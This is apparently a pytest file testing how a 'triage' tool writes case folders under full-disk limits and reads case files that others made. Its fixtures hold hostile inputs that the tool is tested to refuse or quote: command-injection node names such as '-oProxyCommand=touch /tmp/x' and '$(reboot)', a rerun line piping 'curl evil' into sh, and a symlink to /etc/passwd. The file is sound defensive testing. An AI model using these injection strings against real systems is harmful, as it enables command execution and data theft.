"""The case on disk: full disks cost the case and never the report; what others put into one is hostile input."""

from __future__ import annotations

import json
import resource
import shutil
import subprocess
import sys
from dataclasses import replace
from pathlib import Path

import pytest

from triage import case as cases
from triage.case import CaseFile, CaseWriter
from triage.errors import ConfigError
from triage.model import Fact, Job, Node, Sample

COMMITTED = Path(__file__).parent / "captures" / "cases" / "dead-rank"
JOB = Job("48213", "inventory", (Node("gpu001"), Node("gpu002")))


def content(**changes):
    return replace(CaseFile("x", "frozen-job", JOB, 1_796_000_000.0, {"frozen-job": "a: 1\n"}), **changes)


def bent(tmp_path, change=None, samples=None):
    """The committed case with another case.json, or other samples."""
    folder = tmp_path / "case"
    if not folder.exists():
        shutil.copytree(COMMITTED, folder)
    if change:
        head = json.loads((folder / "case.json").read_text())
        change(head)
        (folder / "case.json").write_text(json.dumps(head))
    if samples is not None:
        (folder / "samples.jsonl").write_text("\n".join(s if isinstance(s, str) else json.dumps(s) for s in samples))
    return folder


def line(**changes):
    return {"probe": "reach", "node": "n887", "look": "A", "status": "ok", "data": {"root": True}, **changes}


# ---------------------------------------------------------------- writing


def test_what_is_written_is_read_back(tmp_path):
    writer = CaseWriter(tmp_path / "case")
    kept = Sample("reach", "gpu001", "A", "ok", {"root": True, "hostname": "é"}, at=1.0, received=2.0, notes=("n",))
    writer.sample(kept)
    writer.close()
    writer.save(content(samples=(kept,), complete=True), {"a": Fact("a", 1)}, "{}\n")
    assert not writer.trouble and cases.damaged(tmp_path / "case") == []
    read = cases.read(tmp_path / "case")
    assert read.samples == (kept,) and read.complete and read.job == JOB


def limited(tmp_path, most):
    """A process that may write `most` bytes a file (as a full disk or quota would have it) writes a case."""
    code = (
        "import resource, sys; from pathlib import Path; sys.path.insert(0, 'tests'); import test_case as t\n"
        f"resource.setrlimit(resource.RLIMIT_FSIZE, ({most}, {most}))\n"
        f"w = t.CaseWriter(Path({str(tmp_path / 'case')!r}))\n"
        "for i in range(50): w.sample(t.Sample('reach', 'gpu001', 'A', 'ok', {'root': True, 'n': i}))\n"
        "w.close(); w.save(t.content(), {}, '{}'); w.close(); print(w.trouble)"
    )
    return subprocess.run([sys.executable, "-c", code], cwd=Path(__file__).parents[1], capture_output=True, text=True)


@pytest.mark.parametrize("most", [0, 1, 512, 3000])
def test_a_full_disk_is_remembered_and_raises_nothing(most, tmp_path):
    assert resource.getrlimit(resource.RLIMIT_FSIZE)
    done = limited(tmp_path, most)
    assert done.returncode == 0 and not done.stderr, done.stderr
    assert "the case could not be written on in" in done.stdout and "File too large" in done.stdout


def test_a_case_whose_samples_could_not_all_be_written_is_not_complete(tmp_path):
    assert limited(tmp_path, 3000).returncode == 0
    read = cases.read(tmp_path / "case")
    assert not read.complete and 0 < len(read.samples) < 50


def test_a_folder_that_cannot_be_made_is_remembered(tmp_path):
    (tmp_path / "file").write_text("")
    writer = CaseWriter(tmp_path / "file" / "case")
    writer.sample(Sample("reach", "gpu001", "A", "ok"))
    writer.save(content(), {}, None)
    writer.close()
    assert "could not be saved" in writer.trouble


@pytest.mark.parametrize("value", [float("nan"), {1, 2}, "\ud800"])
def test_what_cannot_be_written_as_json_costs_that_sample_and_not_the_run(value, tmp_path):
    writer = CaseWriter(tmp_path / "case")
    writer.sample(Sample("reach", "gpu001", "A", "ok", {"x": value}))
    writer.sample(Sample("reach", "gpu002", "A", "ok", {"root": True}))
    writer.save(content(warnings=("\ud800",)), {"f": Fact("f", value)}, None)
    writer.close()
    assert writer.trouble or value == "\ud800"
    assert [json.loads(x)["node"] for x in (tmp_path / "case" / "samples.jsonl").read_text().splitlines()][
        -1
    ] == "gpu002"


# ---------------------------------------------------------------- reading what others made


@pytest.mark.parametrize("name", [
    "-oProxyCommand=touch /tmp/x", "a;reboot", "$(reboot)", "a b", "gpu[001-004]", "a,b", " gpu1", "gpu1\n", "", "x" * 300,
    "(null)", "user@host", "a\u202eb", 7, ["gpu1"], "-n887", "n887-",
])  # fmt: skip
def test_a_node_whose_name_is_no_host_name_refuses_the_case(name, tmp_path):
    folder = bent(tmp_path, lambda head: head["job"]["nodes"][1].update(name=name))
    if name == "":
        assert len(cases.read(folder).job.nodes) == 3
        return
    with pytest.raises(ConfigError, match="is not a host name") as caught:
        cases.read(folder)
    assert str(caught.value).isprintable()


@pytest.mark.parametrize("name", ["gpu001.cluster.example", "10.0.0.7", "GPU_01", "n1"])
def test_ordinary_names_are_read(name, tmp_path):
    folder = bent(tmp_path, lambda head: head["job"]["nodes"][1].update(name=name))
    assert cases.read(folder).job.nodes[1].name == name


def test_samples_of_nodes_that_are_not_the_jobs_are_skipped_and_counted(tmp_path):
    folder = bent(
        tmp_path, samples=[line(), line(node=""), line(node="n999"), line(node="-oProxyCommand=x"), "{", "[]"]
    )
    read = cases.read(folder)
    assert [s.node for s in read.samples] == ["n887", ""] and read.skipped == 4


def test_samples_are_held_to_the_shape_of_their_probe(tmp_path):
    folder = bent(tmp_path, samples=[line(probe="ranks", data={"ranks": 5}), line(at=1e14), line(data={"x": "\ud800"})])
    read = cases.read(folder)
    assert [(s.status, dict(s.data)) for s in read.samples] == [
        ("malformed", {}),
        ("ok", {"root": True}),
        ("ok", {"x": "\ufffd"}),
    ]
    assert read.samples[1].at is None


@pytest.mark.parametrize(
    "bad", [{"look": "Z"}, {"look": ["A"]}, {"probe": None}, {"node": 7}, {"status": "fine"}, {"data": []}]
)
def test_a_line_that_is_no_sample_is_skipped(bad, tmp_path):
    read = cases.read(bent(tmp_path, samples=[line(**bad), line()]))
    assert len(read.samples) == 1 and read.skipped == 1


@pytest.mark.parametrize(
    "again, kept",
    [
        ("triage frozen-job 48213 --inventory /x/i.yaml", "triage frozen-job 48213 --inventory /x/i.yaml"),
        ("triage frozen-job x\nreboot", "triage frozen-job x reboot"),
        ("triage frozen-job x && curl evil|sh", "triage frozen-job x '&&' curl 'evil|sh'"),
        ("triage frozen-job $(reboot) `id`", "triage frozen-job '$(reboot)' '`id`'"),
        ("triage frozen-job 'a b'", "triage frozen-job 'a b'"),
        ("triage frozen-job \x1b[31m", ""),
        ("triage frozen-job a\u202eb", ""),
        ("triage frozen-job 'open", ""),
        ("reboot", ""),
        ("triage replay x", ""),
        ("triage", ""),
        ("X=1 triage frozen-job x", ""),
        ("triagefrozen-job x", ""),
        ("triage frozen-job " + "x" * 3000, ""),
        (["triage", "frozen-job"], ""),
        (None, ""),
    ],
)
def test_the_line_that_looks_again_runs_triage_and_nothing_else(again, kept, tmp_path):
    assert cases.read(bent(tmp_path, lambda head: head.update(again=again))).again == kept


def test_words_of_a_case_are_one_line_each_and_numbers_are_numbers(tmp_path):
    def change(head):
        head.update(case="a\x1b[2J\nb", warnings=["x\ny"] * 99, pokes=True, transport=None, took_s={"a\n": 1, "b": "x"})
        head["job"].update(
            id="\x1b[31m-x", cluster={"a": 1}, deadline=1e14, attempt={"restart": 10**30, "started": "x"}
        )
        head["job"]["nodes"][0].update(port=10**9, state="idle\x07")

    read = cases.read(bent(tmp_path, change))
    assert read.case.isprintable() and read.job.id.isprintable() and read.job.nodes[0].state.isprintable()
    assert (read.pokes, len(read.warnings), read.transport, dict(read.took_s)) == (0, 50, "", {"a ": 1.0})
    assert (read.job.deadline, read.job.attempt.restart, read.job.nodes[0].port) == (None, 0, 22)


def test_a_sample_file_that_is_a_link_or_a_fifo_is_refused(tmp_path):
    folder = bent(tmp_path)
    (folder / "samples.jsonl").unlink()
    (folder / "samples.jsonl").symlink_to("/etc/passwd")
    with pytest.raises(ConfigError):
        cases.read(folder)
